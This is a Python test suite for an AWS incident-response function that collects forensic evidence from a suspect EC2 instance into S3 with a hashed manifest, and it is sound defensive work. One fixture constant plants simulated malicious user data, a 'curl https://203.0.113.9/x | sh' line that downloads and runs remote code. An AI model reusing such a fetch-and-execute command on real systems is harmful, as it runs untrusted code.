"""The evidence: every file written once, each with a hash in the manifest, each that is missing with AWS's words."""

import base64
import hashlib
import importlib
import json
import threading
import time
from collections import deque
from concurrent.futures import as_completed, wait
from dataclasses import replace
from functools import partial
from itertools import islice
from typing import NamedTuple

import pytest
from botocore.exceptions import ClientError

from lambdas import trail_reader
from lambdas.contain import evidence_sources
from lambdas.contain.evidence_sources import EVIDENCE_SOURCES
from tests.lambdas.conftest import EVIDENCE
from tests.samples import CASE, INSTANCE, ending

pytestmark = pytest.mark.usefixtures("table", "buckets")

STEP = "Collect evidence"
OTHER, MEMBER = "i-0b57a4de7b57a4de7", "444455556666"
LATER = "arn:aws:states:eu-central-1:552071934480:execution:respond:later"
FOLDER = f"cases/{CASE}/{INSTANCE}/one"
BEFORE = f"cases/{CASE}/{INSTANCE}/before-state.json"
NAMES = {kind.name for kind in EVIDENCE_SOURCES}
OPTIONAL = {kind.name for kind in EVIDENCE_SOURCES if kind.optional}
USER_DATA = b"#!/bin/sh\ncurl https://203.0.113.9/x | sh\n"
RIGHTS = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]}


class Bucket:
    """The evidence bucket as an admin sees it afterwards."""

    def __init__(self, s3):
        self.s3 = s3

    def bytes(self, key):
        return self.s3.get_object(Bucket=EVIDENCE, Key=key)["Body"].read()

    def file(self, name, folder=FOLDER):
        return json.loads(self.bytes(f"{folder}/{name}"))

    def manifest(self, folder=FOLDER):
        return self.file("manifest.json", folder)

    def versions(self):
        return sorted(one["Key"] for one in self.s3.list_object_versions(Bucket=EVIDENCE).get("Versions", []))

    def vouched_for(self, folder=FOLDER):
        """The names in the manifest, if it tells the truth: of each file that is there, and of no other."""
        listed = {one["name"]: one for one in self.manifest(folder)["files"]}
        there = {one.removeprefix(f"{folder}/") for one in self.versions() if one.startswith(f"{folder}/")}
        assert there == {*listed, "manifest.json"}
        for name, one in listed.items():
            body = self.bytes(f"{folder}/{name}")
            assert (one["bytes"], one["sha256"]) == (len(body), hashlib.sha256(body).hexdigest())
        return set(listed)


@pytest.fixture
def bucket(buckets):
    return Bucket(buckets)


@pytest.fixture
def suspect(fleet, moto):
    """An instance with everything that there may be around it."""
    fleet.launch()
    fleet.ec2.modify_instance_attribute(InstanceId=INSTANCE, UserData={"Value": base64.b64encode(USER_DATA)})
    _give_role(moto("iam"), fleet.ec2)
    fleet.scale()
    fleet.launch([("web",)], instance_id=OTHER)
    address = fleet.now().private_addresses[0]
    fleet.balance((INSTANCE, 80), (INSTANCE, 8080), (OTHER, 80))
    fleet.balance((address, 443), kind="ip", name="web-ip")
    fleet.balance((OTHER, 80), name="others")
    elb = moto("elb", fleet.region)
    for name, member in (("old", INSTANCE), ("older", OTHER)):
        elb.create_load_balancer(
            LoadBalancerName=name,
            Listeners=[{"Protocol": "HTTP", "LoadBalancerPort": 80, "InstancePort": 80}],
            AvailabilityZones=[f"{fleet.region}a"],
        )
        elb.register_instances_with_load_balancer(LoadBalancerName=name, Instances=[{"InstanceId": member}])
    return fleet.now()


def _give_role(iam, ec2):
    """A role with a policy that is attached and one that stands in it."""
    role, policy = "web-server", json.dumps(RIGHTS)
    iam.create_role(RoleName=role, AssumeRolePolicyDocument=policy)
    attached = iam.create_policy(PolicyName="reading", PolicyDocument=policy)["Policy"]["Arn"]
    iam.attach_role_policy(RoleName=role, PolicyArn=attached)
    iam.put_role_policy(RoleName=role, PolicyName="uploads", PolicyDocument=policy)
    iam.create_instance_profile(InstanceProfileName=role)
    iam.add_role_to_instance_profile(InstanceProfileName=role, RoleName=role)
    ec2.associate_iam_instance_profile(InstanceId=INSTANCE, IamInstanceProfile={"Name": role})


@pytest.fixture
def collect(suspect, contain):
    """Collect the evidence of the suspect: `collect()`, or with more of the event."""
    return partial(contain, STEP, suspect)


def test_the_manifest_vouches_for_every_file(collect, suspect, bucket):
    result = collect()
    assert bucket.vouched_for() == NAMES
    stored = bucket.bytes(f"{FOLDER}/manifest.json")
    assert ending(result) == {
        "outcome": "done",
        "words": f"{len(EVIDENCE_SOURCES)} files, manifest s3://{EVIDENCE}/{FOLDER}/manifest.json "
        f"(sha256 {result['sha256']}); "
        "not read: before-state.json: the case has no before-state of this instance",
        "manifest": f"{FOLDER}/manifest.json",
        "sha256": hashlib.sha256(stored).hexdigest(),
    }
    manifest = bucket.manifest()
    assert (manifest["case"], manifest["instance"]) == (CASE, suspect.arn)
    assert all(one["read_at"].endswith("+00:00") and ":" in one["source"] for one in manifest["files"])


# What must be found in each file: a way to it, and what stands there.
CONTENTS = {
    "instance.json": lambda one, _: one["Reservations"][0]["Instances"][0]["InstanceId"] == INSTANCE,
    "network-interfaces.json": lambda one, suspect: (
        {eni["NetworkInterfaceId"] for eni in one["NetworkInterfaces"]}
        == {eni.interface_id for eni in suspect.interfaces}
    ),
    "security-groups.json": lambda one, _: (
        {group["GroupName"]: bool(group["IpPermissionsEgress"]) for group in one["SecurityGroups"]}
        == {"web": True, "ssh": True}
    ),
    "subnets.json": lambda one, _: [subnet["CidrBlock"] for subnet in one["Subnets"]] == ["10.1.0.0/20"],
    "route-tables.json": lambda one, _: [table["Associations"][0]["Main"] for table in one["RouteTables"]] == [True],
    "network-acls.json": lambda one, _: [len(acl["Entries"]) > 0 for acl in one["NetworkAcls"]] == [True],
    "user-data.json": lambda one, _: base64.b64decode(one["UserData"]["Value"]) == USER_DATA,
    "console-output.json": lambda one, _: one["Output"].startswith("Linux version"),
    "console-latest.json": lambda one, _: one["Output"].startswith("Linux version"),
    "volumes.json": lambda one, suspect: {each["VolumeId"] for each in one["Volumes"]} == set(suspect.volume_ids),
    "profile-associations.json": lambda one, suspect: (
        [each["IamInstanceProfile"]["Arn"] for each in one["IamInstanceProfileAssociations"]] == [suspect.profile]
    ),
    "instance-profile.json": lambda one, suspect: (
        one["InstanceProfile"]["Arn"] == suspect.profile
        and one["Roles"][0]["AttachedPolicies"][0]["PolicyName"] == "reading"
        and one["Roles"][0]["InlinePolicies"] == {"uploads": RIGHTS}
    ),
    "target-groups.json": lambda one, suspect: (
        {
            group["TargetGroupName"]: [
                (each["Target"]["Id"], each["Target"]["Port"], bool(each["TargetHealth"]["State"]))
                for each in group["TargetHealthDescriptions"]
            ]
            for group in one["TargetGroups"]
        }
        == {
            "web": [(INSTANCE, 80, True), (INSTANCE, 8080, True)],
            "web-ip": [(suspect.private_addresses[0], 443, True)],
        }
    ),
    "classic-load-balancers.json": lambda one, _: (
        [each["LoadBalancerName"] for each in one["LoadBalancerDescriptions"]] == ["old"]
    ),
    "auto-scaling-group.json": lambda one, _: [each["MaxSize"] for each in one["AutoScalingGroups"]] == [3],
    "cloudtrail-events.json": lambda one, _: one == {"Events": [], "More": False},
}


def test_every_file_holds_what_aws_said(collect, suspect, bucket):
    collect()
    assert CONTENTS.keys() | {"screenshot.jpg"} == NAMES
    wrong = [name for name, holds in CONTENTS.items() if not holds(bucket.file(name), suspect)]
    assert wrong == []
    assert bucket.bytes(f"{FOLDER}/screenshot.jpg").startswith(b"\xff\xd8\xff")
    assert bucket.s3.head_object(Bucket=EVIDENCE, Key=f"{FOLDER}/screenshot.jpg")["ContentType"] == "image/jpeg"


def test_a_bare_instance_has_the_same_files(fleet, contain, bucket):
    assert contain(STEP, fleet.launch())["outcome"] == "done"
    assert bucket.vouched_for() == NAMES
    assert bucket.file("instance-profile.json") == {"InstanceProfile": None, "Roles": []}
    assert bucket.file("auto-scaling-group.json") == {"AutoScalingGroups": []}
    assert bucket.file("target-groups.json") == {"TargetGroups": []}
    assert bucket.file("user-data.json")["UserData"] == {}


def test_a_subnet_with_a_route_table_of_its_own_has_that_one(fleet, contain, bucket):
    table = fleet.ec2.create_route_table(VpcId=fleet.vpc)["RouteTable"]["RouteTableId"]
    fleet.ec2.associate_route_table(RouteTableId=table, SubnetId=fleet.subnet)
    contain(STEP, fleet.launch())
    assert [one["RouteTableId"] for one in bucket.file("route-tables.json")["RouteTables"]] == [table]


def test_the_groups_are_those_that_it_was_found_with(collect, suspect, contain, bucket):
    """The quarantine goes on beside, and may have come first."""
    contain("Quarantine network", suspect)
    collect()
    groups = {group["GroupId"] for group in bucket.file("security-groups.json")["SecurityGroups"]}
    assert groups == {group for interface in suspect.interfaces for group in interface.groups}


def test_nobody_presses_a_key_for_the_screenshot(collect, fleet, calls):
    asked = calls(fleet.ec2, "GetConsoleScreenshot")
    collect()
    assert asked == [{"InstanceId": INSTANCE}]


def test_s3_is_given_the_hash_of_each_file_and_told_to_overwrite_nothing(collect, bucket, calls):
    puts = calls(bucket.s3, "PutObject")
    collect()
    assert len(puts) == len(EVIDENCE_SOURCES) + 1
    for put in puts:
        assert put["IfNoneMatch"] == "*"
        assert put["ChecksumSHA256"] == base64.b64encode(hashlib.sha256(bucket.bytes(put["Key"])).digest()).decode()


def test_the_state_before_is_vouched_for_where_it_lies(collect, suspect, contain, bucket):
    contain("Write before-state", suspect)
    result = collect()
    before = bucket.manifest()["before_state"]
    assert before == {"key": BEFORE, "sha256": hashlib.sha256(bucket.bytes(BEFORE)).hexdigest()}
    assert bucket.manifest()["not_read"] == []
    assert "not read" not in result["words"]
    contain("Archive before-state", suspect)
    assert bucket.versions().count(BEFORE) == 1


def test_a_state_before_that_cannot_be_looked_up_costs_nothing_else(collect, bucket, table, refuse):
    refuse(table, "Query", "ProvisionedThroughputExceededException")
    result = collect()
    assert result["outcome"] == "done"
    assert "before-state.json: An error occurred (ProvisionedThroughputExceeded" in result["words"]
    assert bucket.vouched_for() == NAMES


def test_an_instance_of_a_member_is_read_there_and_kept_here(fleet, contain, bucket, members, calls):
    theirs = replace(fleet.launch(), account_id=MEMBER)
    client = members(MEMBER)
    asked = [
        calls(client(service, fleet.region, MEMBER), operation)
        for service, operation in (("ec2", "DescribeInstances"), ("elb", "DescribeLoadBalancers"))
    ]
    contain(STEP, theirs)
    assert [len(one) for one in asked] == [1, 1]
    assert bucket.manifest()["instance"] == theirs.arn


class Refusal(NamedTuple):
    """A call that AWS refuses, and the files that then cannot be made."""

    service: str
    operation: str
    files: set
    when: object = lambda _: True


SUBNETS = {"subnets.json", "route-tables.json", "network-acls.json"}
REFUSALS = [
    Refusal("ec2", "DescribeInstances", {"instance.json"}),
    Refusal("ec2", "DescribeNetworkInterfaces", {"network-interfaces.json", *SUBNETS}),
    Refusal("ec2", "DescribeSecurityGroups", {"security-groups.json"}),
    Refusal("ec2", "DescribeSubnets", {"subnets.json"}),
    Refusal("ec2", "DescribeRouteTables", {"route-tables.json"}),
    Refusal("ec2", "DescribeNetworkAcls", {"network-acls.json"}),
    Refusal("ec2", "DescribeInstanceAttribute", {"user-data.json"}),
    Refusal("ec2", "GetConsoleOutput", {"console-latest.json"}, lambda params: params.get("Latest")),
    Refusal("ec2", "GetConsoleOutput", {"console-output.json"}, lambda params: not params.get("Latest")),
    Refusal("ec2", "GetConsoleScreenshot", {"screenshot.jpg"}),
    Refusal("ec2", "DescribeVolumes", {"volumes.json"}),
    Refusal("ec2", "DescribeIamInstanceProfileAssociations", {"profile-associations.json"}),
    Refusal("iam", "GetInstanceProfile", {"instance-profile.json"}),
    Refusal("iam", "GetRolePolicy", {"instance-profile.json"}),
    Refusal("elbv2", "DescribeTargetGroups", {"target-groups.json"}),
    Refusal("elbv2", "DescribeTargetHealth", {"target-groups.json"}),
    Refusal("elb", "DescribeLoadBalancers", {"classic-load-balancers.json"}),
    Refusal("autoscaling", "DescribeAutoScalingGroups", {"auto-scaling-group.json"}),
    Refusal("cloudtrail", "LookupEvents", {"cloudtrail-events.json"}),
]


@pytest.fixture
def refuse_one(moto, fleet, refuse):
    """Let AWS refuse one of the calls: `refuse_one(refusal, "AccessDenied")`."""

    def register(refusal, code, *when):
        service = moto(refusal.service, None if refusal.service == "iam" else fleet.region)
        refuse(service, refusal.operation, code, *when)

    return register


def test_every_file_has_a_refusal_of_its_own():
    assert set().union(*(one.files for one in REFUSALS)) == NAMES


@pytest.mark.parametrize("refusal", REFUSALS, ids=lambda one: f"{one.operation}: {', '.join(sorted(one.files))}")
def test_what_is_refused_is_named_and_holds_up_nothing_else(refusal, collect, bucket, refuse_one):
    refuse_one(refusal, "UnsupportedOperation", refusal.when)
    result = collect()
    assert bucket.vouched_for() == NAMES - refusal.files
    unread = {one["name"]: one["words"] for one in bucket.manifest()["not_read"]}
    assert unread.keys() == {*refusal.files, "before-state.json"}
    for name in refusal.files:
        assert unread[name].endswith("UnsupportedOperation said AWS")
        assert f"{name}: An error occurred (UnsupportedOperation)" in result["words"]
    assert result["outcome"] == ("done" if refusal.files <= OPTIONAL else "failed")


def test_where_all_is_refused_the_manifest_says_so(collect, bucket, refuse_one):
    for refusal in REFUSALS:
        refuse_one(refusal, "UnauthorizedOperation")
    result = collect()
    assert result["outcome"] == "failed"
    assert result["words"].startswith(f"0 files, manifest s3://{EVIDENCE}/{FOLDER}/manifest.json")
    assert bucket.vouched_for() == set()
    assert {one["name"] for one in bucket.manifest()["not_read"]} == {*NAMES, "before-state.json"}


def test_an_answer_that_nobody_expects_costs_its_own_file(collect, bucket, monkeypatch):
    whole = evidence_sources._whole

    def odd(instance, service, operation, **parameters):
        return {} if service == "elb" else whole(instance, service, operation, **parameters)

    monkeypatch.setattr(evidence_sources, "_whole", odd)
    result = collect()
    assert bucket.vouched_for() == NAMES - {"classic-load-balancers.json"}
    assert "classic-load-balancers.json: KeyError('LoadBalancerDescriptions')" in result["words"]
    assert result["outcome"] == "failed"


def test_a_console_without_output_yet_is_no_failure(collect, monkeypatch):
    monkeypatch.setattr(evidence_sources, "_said", lambda *_, **__: {"InstanceId": INSTANCE, "Output": ""})
    result = collect()
    assert "console-output.json: AWS shows none" in result["words"]
    assert "screenshot.jpg: AWS shows none" in result["words"]
    assert result["outcome"] == "done"


def test_what_is_late_is_named_and_not_waited_for(collect, fleet, bucket, hook, monkeypatch):
    step = importlib.import_module("lambdas.contain.collect_evidence")  # its name in the package is the function
    held = threading.Event()
    hook(fleet.ec2, "DescribeVolumes", lambda _: held.wait(60))

    def until_all_others_are_read(answers, timeout):
        """As when the time is over: how long the others take is this machine's affair."""
        assert timeout == 15
        deque(islice(as_completed(answers), len(answers) - 1), maxlen=0)
        return wait(answers, timeout=0)

    monkeypatch.setattr(step, "wait", until_all_others_are_read)
    result = collect()
    assert "volumes.json: no answer within 15 s" in result["words"]
    assert result["outcome"] == "failed"
    held.set()
    time.sleep(0.2)  # what comes in now adds nothing
    assert bucket.vouched_for() == NAMES - {"volumes.json"}


def test_again_changes_nothing_and_says_the_same(collect, fleet, contain, bucket):
    first = collect()
    written = bucket.versions()
    fleet.ec2.create_tags(Resources=[INSTANCE], Tags=[{"Key": "Later", "Value": "yes"}])
    assert contain(STEP, fleet.now()) == first
    assert bucket.versions() == written


def test_another_execution_has_a_folder_of_its_own(collect, bucket):
    collect()
    written = bucket.versions()
    assert collect(execution=LATER)["manifest"] == f"cases/{CASE}/{INSTANCE}/later/manifest.json"
    assert bucket.vouched_for() == bucket.vouched_for(FOLDER.replace("one", "later")) == NAMES
    assert set(written) < set(bucket.versions())
    assert len(bucket.versions()) == len(set(bucket.versions()))


class Crash(Exception):
    """The function ends, whatever it was doing."""


@pytest.fixture
def crash(hook):
    """End the function at the n-th call of an operation, before it or after it: `crash(s3, "PutObject", 3)`."""

    def at(client, operation, number):
        made, counting = [], threading.Lock()

        def count(_):
            with counting:
                made.append(1)
                if len(made) >= number:
                    raise Crash

        return hook(client, operation, count)

    return at


def test_after_a_crash_at_any_put_the_next_try_completes_it(collect, fleet, bucket, crash):
    """What was stored stays, also where AWS says something else by now; the manifest is of what is stored."""
    for number in (1, 2, len(EVIDENCE_SOURCES) // 2, len(EVIDENCE_SOURCES), len(EVIDENCE_SOURCES) + 1):
        name = f"crash-{number}"
        execution, folder = LATER.replace("later", name), FOLDER.replace("one", name)
        undo = crash(bucket.s3, "PutObject", number)
        with pytest.raises(Crash):
            collect(execution=execution)
        undo()
        stored = {key: bucket.bytes(key) for key in bucket.versions() if key.startswith(f"{folder}/")}
        assert len(stored) == number - 1
        assert f"{folder}/manifest.json" not in stored
        fleet.ec2.create_tags(Resources=[INSTANCE], Tags=[{"Key": name, "Value": "later"}])
        assert collect(execution=execution)["outcome"] == "done"
        assert bucket.vouched_for(folder) == NAMES
        assert {key: bucket.bytes(key) for key in stored} == stored
    assert len(bucket.versions()) == len(set(bucket.versions()))


def test_after_a_crash_behind_the_manifest_the_next_try_adds_nothing(collect, bucket, crash, refuse, fleet):
    """The first try could not read the screen, the second could: it would lie there and the manifest not know it."""
    refused = refuse(fleet.ec2, "GetConsoleScreenshot", "InternalError")
    undo = crash(bucket.s3, "GetObject", 3)  # is there a manifest, is there an earlier screenshot, what is stored
    with pytest.raises(Crash):
        collect()
    undo()
    refused()
    written = bucket.versions()
    result = collect()
    assert result["outcome"] == "done"
    assert "screenshot.jpg" in result["words"]
    assert bucket.vouched_for() == NAMES - {"screenshot.jpg"}
    assert bucket.versions() == written


def test_what_only_an_earlier_try_could_read_is_in_the_manifest(collect, fleet, bucket, crash, refuse):
    undo = crash(bucket.s3, "PutObject", len(EVIDENCE_SOURCES) + 1)  # all but the manifest
    with pytest.raises(Crash):
        collect()
    undo()
    refuse(fleet.ec2, "GetConsoleScreenshot", "InternalError")
    collect()
    assert bucket.vouched_for() == NAMES


def test_a_file_that_somebody_else_put_there_stays_and_shows(collect, bucket):
    bucket.s3.put_object(Bucket=EVIDENCE, Key=f"{FOLDER}/instance.json", Body=b"planted")
    collect()
    assert bucket.vouched_for() == NAMES
    (planted,) = [one for one in bucket.manifest()["files"] if one["name"] == "instance.json"]
    assert (planted["bytes"], planted["read_at"]) == (len(b"planted"), "unknown")


def test_a_bucket_that_refuses_is_a_failure_that_the_next_try_makes_up_for(collect, bucket, refuse):
    undo = refuse(bucket.s3, "PutObject", "SlowDown", lambda params: params["Key"].endswith("volumes.json"))
    with pytest.raises(ClientError, match="SlowDown"):
        collect()
    assert f"{FOLDER}/manifest.json" not in bucket.versions()
    undo()
    assert collect()["outcome"] == "done"
    assert bucket.vouched_for() == NAMES


def test_a_manifest_that_cannot_be_read_back_is_not_called_done(collect, bucket, refuse):
    """Without the right to list, S3 says of what is not there that access is denied; then it may still be true."""
    refuse(bucket.s3, "GetObject", "AccessDenied")
    with pytest.raises(ClientError, match="AccessDenied"):
        collect()


def test_cloudtrail_is_asked_for_some_pages_only(collect, fleet, bucket, moto, monkeypatch):
    monkeypatch.setattr(trail_reader, "_BETWEEN_PAGES_SECONDS", 0)
    asked = []

    def page(params, **_):
        asked.append(json.loads(params["body"]))
        return Answered(), {"Events": [{"EventName": f"StartInstances-{len(asked)}"}], "NextToken": str(len(asked))}

    trail, event = moto("cloudtrail", fleet.region), "before-call.cloudtrail.LookupEvents"
    trail.meta.events.register_first(event, page)
    try:
        collect()
    finally:
        trail.meta.events.unregister(event, page)
    assert [one.get("NextToken") for one in asked] == [None, "1", "2"]
    assert all(one["LookupAttributes"][0]["AttributeValue"] == INSTANCE for one in asked)
    kept = bucket.file("cloudtrail-events.json")
    assert ([one["EventName"][-1] for one in kept["Events"]], kept["More"]) == (["1", "2", "3"], True)


class Answered:
    """What botocore looks at of an HTTP answer."""

    status_code = 200
    headers: dict = {}  # noqa: RUF012  nobody changes it
